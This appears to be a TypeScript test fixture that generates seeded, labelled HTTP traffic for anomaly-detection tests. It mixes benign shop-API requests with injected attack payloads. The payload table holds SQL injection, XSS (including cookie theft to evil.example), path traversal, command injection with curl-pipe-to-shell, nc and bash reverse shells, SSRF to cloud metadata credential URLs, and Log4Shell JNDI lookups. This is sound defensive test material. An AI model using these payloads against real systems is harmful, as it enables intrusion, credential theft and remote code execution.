// A labelled request corpus written for the anomaly tests: benign traffic of a few APIs, and
// attacks of each family injected where an attacker would put them. Deterministic (seeded).
import type { HttpInput } from '../../control-plane/engine/request.js';

export type Family = 'sqli' | 'xss' | 'traversal' | 'cmdi' | 'ssrf' | 'log4shell';

export interface LabelledRequest {
  readonly workload: string;
  readonly http: HttpInput;
  readonly attack: Family | null;
}

export function prng(seed: number): () => number {
  let s = seed >>> 0;
  return () => {
    s = (s + 0x6d2b79f5) >>> 0;
    let t = s;
    t = Math.imul(t ^ (t >>> 15), t | 1);
    t ^= t + Math.imul(t ^ (t >>> 7), t | 61);
    return ((t ^ (t >>> 14)) >>> 0) / 4294967296;
  };
}

const WORDS = ['red', 'blue', 'shoes', 'jacket', 'running', 'winter', 'kids', 'leather', 'boots', 'summer', 'dress', 'men\'s', 'women\'s', 'sale', 'wool', 'black', 'size', '42', 'organic', 'cotton', 'gift', 'for', 'dad', 'café', 'naïve', 'rock & roll', '50%', 'off', 'c++', 'book'];
const CATEGORIES = ['shoes', 'outdoor', 'kids', 'home', 'garden', 'electronics', 'books', 'sports'];
const AGENTS = ['Mozilla/5.0 (X11; Linux x86_64) AppleWebKit/537.36 (KHTML, like Gecko) Chrome/131.0 Safari/537.36', 'Mozilla/5.0 (iPhone; CPU iPhone OS 17_1 like Mac OS X) AppleWebKit/605.1.15', 'okhttp/4.12.0', 'python-requests/2.32.3', 'shop-mobile/3.4.1 (Android 14)'];

const pick = <T>(r: () => number, xs: readonly T[]): T => xs[Math.floor(r() * xs.length)]!;
const int = (r: () => number, lo: number, hi: number): number => lo + Math.floor(r() * (hi - lo + 1));
const hex = (r: () => number, n: number): string => Array.from({ length: n }, () => '0123456789abcdef'[int(r, 0, 15)]).join('');
const enc = (s: string): string => encodeURIComponent(s).replace(/%20/g, '+');

function headers(r: () => number, extra: Record<string, string> = {}): Record<string, string> {
  return { 'user-agent': pick(r, AGENTS), accept: pick(r, ['application/json', '*/*', 'text/html,application/xhtml+xml']), cookie: `session=${hex(r, 32)}`, ...extra };
}

type Template = (r: () => number, value?: string) => { workload: string; http: HttpInput };

/** Each API takes an optional value to put where user input goes (for attacks). */
const TEMPLATES: Template[] = [
  (r, v) => {
    const q = v ?? Array.from({ length: int(r, 1, 3) }, () => pick(r, WORDS)).join(' ');
    return { workload: 'shop/catalog', http: { method: 'GET', path: `/api/products?category=${pick(r, CATEGORIES)}&page=${int(r, 1, 40)}&sort=${pick(r, ['price', 'name', 'rating'])}&q=${enc(q)}`, host: 'catalog', scheme: 'http', headers: headers(r), body: '' } };
  },
  (r, v) => ({ workload: 'shop/users', http: { method: 'GET', path: `/api/users/${v === undefined ? int(r, 1, 99999) : enc(v)}/orders?limit=${int(r, 5, 50)}`, host: 'users', scheme: 'http', headers: headers(r), body: '' } }),
  (r, v) => {
    const body = JSON.stringify({ productId: int(r, 1, 5000), quantity: int(r, 1, 5), note: v ?? pick(r, ['', 'gift wrap please', 'leave at the door', 'ring twice', 'no plastic bag']), coupon: r() < 0.3 ? `SAVE${int(r, 5, 30)}` : '' });
    return { workload: 'shop/orders', http: { method: 'POST', path: '/api/orders', host: 'orders', scheme: 'http', headers: headers(r, { 'content-type': 'application/json' }), body } };
  },
  (r, v) => ({ workload: 'shop/search', http: { method: 'GET', path: `/search?q=${enc(v ?? Array.from({ length: int(r, 1, 4) }, () => pick(r, WORDS)).join(' '))}&lang=${pick(r, ['en', 'de', 'fr'])}`, host: 'search', scheme: 'http', headers: headers(r, { referer: 'https://shop.example/' }), body: '' } }),
  (r, v) => {
    const password = Array.from({ length: int(r, 10, 18) }, () => pick(r, [...'abcdefghijkmnopqrstuvwxyzABCDEFGHJKLMNPQRSTUVWXYZ23456789!@#%^*_-'])).join('');
    const body = `username=${enc(v ?? `user${int(r, 1, 9999)}`)}&password=${enc(password)}`;
    return { workload: 'shop/auth', http: { method: 'POST', path: '/login', host: 'auth', scheme: 'http', headers: headers(r, { 'content-type': 'application/x-www-form-urlencoded' }), body } };
  },
];

export const ATTACKS: Record<Family, readonly string[]> = {
  sqli: ["' OR '1'='1", "1' OR 1=1-- -", '1 UNION SELECT username,password FROM users', "1' AND SLEEP(5)#", "'; DROP TABLE orders;--", '1 AND 1=1', "admin'--",
    "1' ORDER BY 3--", '-1 UNION/**/SELECT/**/null,version()', '1;SELECT pg_sleep(10)', "' AND extractvalue(1,concat(0x7e,version()))--", "1' WAITFOR DELAY '0:0:5'--",
    '1 AnD 1=2 UnIoN SeLeCt 1,2,3', "' || (SELECT user FROM dual) || '", '1%27%20OR%201%3D1--'],
  xss: ['<script>alert(1)</script>', '<img src=x onerror=alert(1)>', '<svg/onload=alert(document.domain)>', 'javascript:alert(1)', "\"><script>fetch('//evil.example?c='+document.cookie)</script>",
    '<iframe src=javascript:alert(1)>', '<body onload=prompt(1)>', '%3Cscript%3Ealert(1)%3C%2Fscript%3E', '<details open ontoggle=confirm(1)>', "'-alert(1)-'", "{{constructor.constructor('alert(1)')()}}", '<ScRiPt>eval(atob("YWxlcnQoMSk="))</sCrIpT>'],
  traversal: ['../../../../etc/passwd', '..%2f..%2f..%2fetc%2fpasswd', '....//....//etc/passwd', '..\\..\\..\\windows\\win.ini', '/var/www/../../etc/shadow', '%2e%2e%2f%2e%2e%2fproc%2fself%2fenviron', '..%252f..%252fetc%252fhosts', '../../../../.env', '..;/..;/WEB-INF/web.config'],
  cmdi: ['; cat /etc/passwd', '| id', '$(whoami)', '`uname -a`', '&& curl http://evil.example/x.sh | sh', '; nc -e /bin/sh 10.0.0.1 4444', '|| ping -c 10 127.0.0.1', ';wget http://192.0.2.1/a -O /tmp/a', '%3Bcat%20%2Fetc%2Fpasswd', 'a;bash -i >& /dev/tcp/10.0.0.1/8080 0>&1'],
  ssrf: ['http://169.254.169.254/latest/meta-data/iam/security-credentials/', 'http://metadata.google.internal/computeMetadata/v1/', 'http://127.0.0.1:6379/', 'http://localhost/admin', 'gopher://127.0.0.1:25/_HELO', 'file:///etc/passwd', 'http://[::1]/', 'http://2130706433/', 'http://0x7f.0.0.1/', 'dict://localhost:11211/stats'],
  log4shell: ['${jndi:ldap://evil.example/a}', '${${lower:j}ndi:ldap://x.example/a}', '${jndi:dns://x.evil.example}', '${${::-j}${::-n}${::-d}${::-i}:rmi://x.example/y}', '${env:AWS_SECRET_ACCESS_KEY}', '%24%7Bjndi%3Aldap%3A%2F%2Fx.example%2Fa%7D'],
};

export function benign(n: number, seed: number): LabelledRequest[] {
  const r = prng(seed);
  return Array.from({ length: n }, () => ({ ...pick(r, TEMPLATES)(r), attack: null }));
}

export function attacks(perFamily: number, seed: number): LabelledRequest[] {
  const r = prng(seed);
  const out: LabelledRequest[] = [];
  for (const family of Object.keys(ATTACKS) as Family[]) {
    for (let i = 0; i < perFamily; i++) {
      const payload = pick(r, ATTACKS[family]);
      if (family === 'log4shell' && r() < 0.5) {
        const base = pick(r, TEMPLATES)(r);
        out.push({ ...base, http: { ...base.http, headers: { ...base.http.headers, [pick(r, ['user-agent', 'x-api-version', 'referer'])]: payload } }, attack: family });
      } else out.push({ ...pick(r, TEMPLATES)(r, payload), attack: family });
    }
  }
  return out;
}
